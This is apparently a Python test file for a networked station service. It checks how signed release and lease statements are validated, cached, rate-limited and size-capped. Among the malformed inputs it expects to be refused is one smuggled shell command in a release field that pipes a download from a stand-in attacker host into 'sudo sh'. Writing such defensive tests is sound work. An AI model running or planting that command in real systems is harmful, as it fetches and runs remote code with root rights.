"""What a station signs of its release and its lease, what others keep of it, and how often they ask."""

from __future__ import annotations

import asyncio
import dataclasses
import json
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any, cast

import pytest

from station_image.runtime.accepted import statement
from station_image.runtime.base.refusal import RefusedError
from station_image.runtime.consent.plan import VALID
from station_image.runtime.releases import about, draining
from station_image.runtime.releases.about import LARGEST, MOST, About
from station_image.runtime.releases.draining import LONGEST, Draining
from station_image.runtime.releases.known import ASKED, MEMORY, Known
from station_image.runtime.wire.answers import Answers
from station_image.runtime.wire.connection import LARGE
from station_image.runtime.wire.peers import Peers
from tests.station_image.runtime.neighbours import FakePeers, Own, away, run
from tests.station_image.runtime.views import PARTIES, Small


class Polls:
    """Who polls n.a."""

    def __init__(self, *peers: str) -> None:
        self.held = {*peers}

    def peers(self, _: str) -> list[str]:
        return sorted(self.held)

    def find(self, _: str, peer: str) -> object | None:
        return peer if peer in self.held else None


class Station:
    """n.a; within reach are n.b and n.c, that it calls, and n.d, that polls it."""

    def __init__(self, folder: Path) -> None:
        self.own = Own(Small.make(folder / "small"), "n.a", folder / "station")
        (self.own.root / "control").mkdir()
        self.peers = FakePeers()
        self.peers.answering = {"n.b", "n.c", "n.d"}
        self.peers.told = lambda peer, _: self.signed(peer)
        self.peers.callable = lambda: ["n.b", "n.c"]  # type: ignore[attr-defined]
        self.peers.polls = Polls("n.d")  # type: ignore[attr-defined]
        self.draining = Draining(self.own.root / "control" / "draining")
        networks = self.own.small.networks("n.a")
        self.known = Known(self.own.key, "1.0.0", networks, cast(Peers, self.peers), self.draining)
        self.draining.watch(self.known.tell)
        self.answers = Answers()
        self.known.answer_in(self.answers)

    def signed(self, station: str, /, **changes: Any) -> dict[str, Any]:
        """What a station says of itself, with some of it otherwise."""
        own = about.own("1.0.0", self.own.small.networks(station).find("n"))
        return about.sign(self.own.small.keys[station], dataclasses.replace(own, **changes))

    async def ready(self, peer: str, *stations: str) -> dict[str, Any]:
        """What a peer is answered that asks for some."""
        return await self.answers.answer(self.own.caller(peer, kind="ready"), {"stations": [*stations]}, b"")

    def hear(self, peer: str, told: Mapping[str, Any]) -> dict[str, Any]:
        """What a peer is answered that says something of itself."""
        return run(self.answers.answer(self.own.caller(peer, kind="drains"), told, b""))

    def left(self, station: str) -> int:
        """Seconds for which a station drains yet, as n.a knows."""
        return self.known.said(self.own.network, [station])[station].left


@pytest.fixture
def station(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Station:
    monkeypatch.setattr(draining, "SETTLE", 0.0)
    return Station(tmp_path)


NOW = int(time.time())
ODD: list[dict[str, Any]] = [
    *({"release": one} for one in ("1; curl evil.nl/x|sudo sh #", "", "-1", "x" * 64, "1\n", 3, None)),
    *({"protocols": one} for one in ([], [0], [65536], [True], ["2"], 3, [*range(1, MOST + 2)])),
    *({"analyses": one} for one in (["x" * 99], ["sum"], ["sum/0"], [1], "sum/1", [f"a{one}/1" for one in range(51)])),
    *({"said": one} for one in (-1, 1.5, True, None)),
    *({"drains": one} for one in (-1, 1, True, "soon", 10**30)),
    *({"network": one} for one in ("m", ["n"])),
    {"station": "n.c"},
]


@pytest.mark.parametrize("odd", ODD, ids=str)
def test_a_statement_that_is_not_what_it_must_be_is_that_of_nobody(station: Station, odd: dict[str, Any]) -> None:
    """A release of one's own choice stood in the command that others were told to give."""
    assert "refused" in station.hear("n.b", station.signed("n.b", **odd))
    assert "n.b" not in station.known.said(station.own.network, ["n.b"])


def test_what_one_station_says_of_itself_has_at_most_four_thousand_bytes(station: Station) -> None:
    longest = [f"{one:a<2}{'a' * 36}/1" for one in "abcdefghijklmnopqrstuvwxyz"] * 2
    assert station.hear("n.b", station.signed("n.b", analyses=longest[:40])) == {"ok": True}
    telling = station.signed("n.b", analyses=[one.replace("/", "aaa/") + "234" for one in longest][:MOST])
    assert "bytes" in str(station.hear("n.b", {**telling, "signature": telling["signature"] + "A" * LARGEST}))
    odd = {**station.signed("n.b"), "about": {**telling["about"], "more": "x" * LARGE}}
    assert "cannot be read" in str(station.hear("n.b", odd))


def test_what_hundreds_say_fits_in_one_answer_whatever_some_of_them_say(station: Station) -> None:
    """One long statement of one contributor made the answers of computing parties longer than anybody reads."""
    network = station.own.network
    stations = {f"n.x{one}": dataclasses.replace(network.stations["n.d"], id=f"n.x{one}") for one in range(620)}
    network = dataclasses.replace(network, stations={**network.stations, **stations})
    long = [f"{'a' * 38}{one}/1".replace("0", "b") for one in range(11, 61)]
    for number, name in enumerate(stations):
        told = About("n", name, "1.0.0", [2, 3], long if number % 2 else ["acceptance_sum/1"], NOW)
        station.known.take(network, name, about.sign(station.own.small.keys["n.d"], told))
    station.peers.answering = set()
    caller = dataclasses.replace(station.own.caller("n.b", kind="ready"), network=network)
    answer = run(station.answers.answer(caller, {"stations": [*stations]}, b""))
    assert len(json.dumps(answer)) < LARGE * 3 // 4
    assert {f"n.x{one}" for one in range(0, 620, 2)} <= answer["heard"].keys()


def test_everybody_within_reach_is_told_when_a_lease_begins_and_when_it_ends(station: Station) -> None:
    station.peers.told = away("n.b")
    run(station.draining.begin(60))
    run(station.draining.end())
    told = [(peer, about.read(content, station.own.network, "n.a").left)
            for peer, request, content, _ in station.peers.asked if request == {"kind": "drains"}]  # fmt: skip
    assert sorted(told[:3]) == [("n.b", 60), ("n.c", 60), ("n.d", 60)]
    assert sorted(told[3:]) == [("n.b", 0), ("n.c", 0), ("n.d", 0)]


def test_it_believes_each_of_itself_and_no_longer_than_an_hour(station: Station) -> None:
    now = int(time.time())
    assert station.hear("n.b", station.signed("n.b", said=now, drains=now + 30)) == {"ok": True}
    assert station.hear("n.c", station.signed("n.c", said=now, drains=now + LONGEST)) == {"ok": True}
    assert (station.left("n.b") > 25, LONGEST - 5 < station.left("n.c") <= LONGEST) == (True, True)
    assert "refused" in station.hear("n.b", station.signed("n.b", said=now, drains=now + LONGEST + 1))
    assert "refused" in station.hear("n.b", station.signed("n.b", said=now + VALID + 60))
    assert "refused" in station.hear("n.b", station.signed("n.d"))
    assert station.hear("n.b", station.signed("n.b", said=now)) == {"ok": True}
    assert station.left("n.b") == 0


def test_who_drains_is_shown_to_whoever_asks_in_its_own_words(station: Station) -> None:
    now = int(time.time())
    told = station.signed("n.c", said=now, drains=now + 60)
    station.hear("n.c", told)
    assert run(station.ready("n.b"))["heard"] == {"n.c": told}
    assert run(station.ready("n.b", "n.a", "n.b"))["heard"] == {"n.c": told}
    station.hear("n.c", station.signed("n.c"))
    assert run(station.ready("n.b"))["heard"] == {}


def test_of_what_others_show_only_what_is_newer_counts(station: Station) -> None:
    network, now = station.own.network, int(time.time())
    station.hear("n.b", station.signed("n.b", said=now - 10))
    for ago in (10, 11, 600):
        station.known.show(network, "n.b", station.signed("n.b", said=now - ago, drains=now - ago + 900))
    assert station.left("n.b") == 0
    station.known.show(network, "n.b", station.signed("n.b", said=now - 5, drains=now + 60))
    assert station.left("n.b") > 50
    with pytest.raises(RefusedError):
        station.known.show(network, "n.b", station.signed("n.c", said=now, station="n.b"))
    station.hear("n.b", station.signed("n.b", said=now - 700))
    assert station.left("n.b") == 0, "what it says itself counts whatever its clock was"


def test_nobody_is_asked_again_within_some_seconds_whoever_asks(
    station: Station, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One caller had a station call everybody else for each of its questions."""
    now = [1000.0]
    monkeypatch.setattr(time, "monotonic", lambda: now[0])
    station.peers.told = lambda peer, _: away("n.c")(peer, _) and station.signed(peer)
    for caller in ("n.b", "n.d", "n.b"):
        assert run(station.ready(caller, *PARTIES))["heard"].keys() <= {"n.b"}
    assert sorted(station.peers.kinds("ready")) == ["n.b", "n.c"]
    now[0] += MEMORY
    run(station.ready("n.d", "n.b", "n.c"))
    assert sorted(station.peers.kinds("ready")) == ["n.b", "n.b", "n.c", "n.c"]


def test_who_polls_is_asked_when_it_came_and_says_itself_what_changes(
    station: Station, monkeypatch: pytest.MonkeyPatch
) -> None:
    now = [1000.0]
    monkeypatch.setattr(time, "monotonic", lambda: now[0])
    for _ in range(3):
        now[0] += 2 * MEMORY
        assert set(run(station.ready("n.b", "n.d"))["heard"]) == {"n.d"}
    assert station.peers.kinds("ready") == ["n.d"]
    station.peers.told = away("n.d")
    run(station.known.polled(station.own.network, "n.d"))
    assert station.peers.kinds("ready") == ["n.d", "n.d"]
    now[0] += 2 * MEMORY
    run(station.ready("n.b", "n.d"))
    assert station.peers.kinds("ready") == ["n.d"] * 3, "what it said before it came back is no more than the last"


def test_one_question_to_a_station_is_under_way_at_once_and_all_hear_its_answer(station: Station) -> None:
    ask = station.peers.ask

    async def slowly(*asked: Any) -> Any:
        await asyncio.sleep(0.01)
        return await ask(*asked)

    station.peers.ask = slowly  # type: ignore[assignment, method-assign]

    async def work() -> list[dict[str, Any]]:
        return await asyncio.gather(*(station.ready(one, "n.c") for one in ("n.b", "n.d", "n.b")))

    assert [set(one["heard"]) for one in run(work())] == [{"n.c"}] * 3
    assert station.peers.kinds("ready") == ["n.c"]


def test_a_caller_is_told_to_come_again_where_it_asks_too_often_and_others_are_not(station: Station) -> None:
    async def work() -> list[dict[str, Any]]:
        return [await station.ready("n.b") for _ in range(ASKED[0] + 5)] + [await station.ready("n.c")]

    *told, other = run(work())
    assert [one for one in told if "refused" in one][-1]["again"] is True
    assert "about" in other


def test_what_a_station_said_goes_with_it(station: Station) -> None:
    station.hear("n.b", station.signed("n.b"))
    station.known.part("n", "n.b")
    assert set(station.known.said(station.own.network, ["n.b", "n.c"])) == {"n.a"}


def test_the_own_statement_is_of_now_and_of_this_key(station: Station) -> None:
    told = station.known.own(station.own.network)
    found = about.read(told, station.own.network, "n.a")
    assert (found.release, found.drains) == ("1.0.0", 0)
    assert 0 <= time.time() - found.said < 60
    statement.verify(station.own.key.public, statement.RELEASE, told["about"], told["signature"])
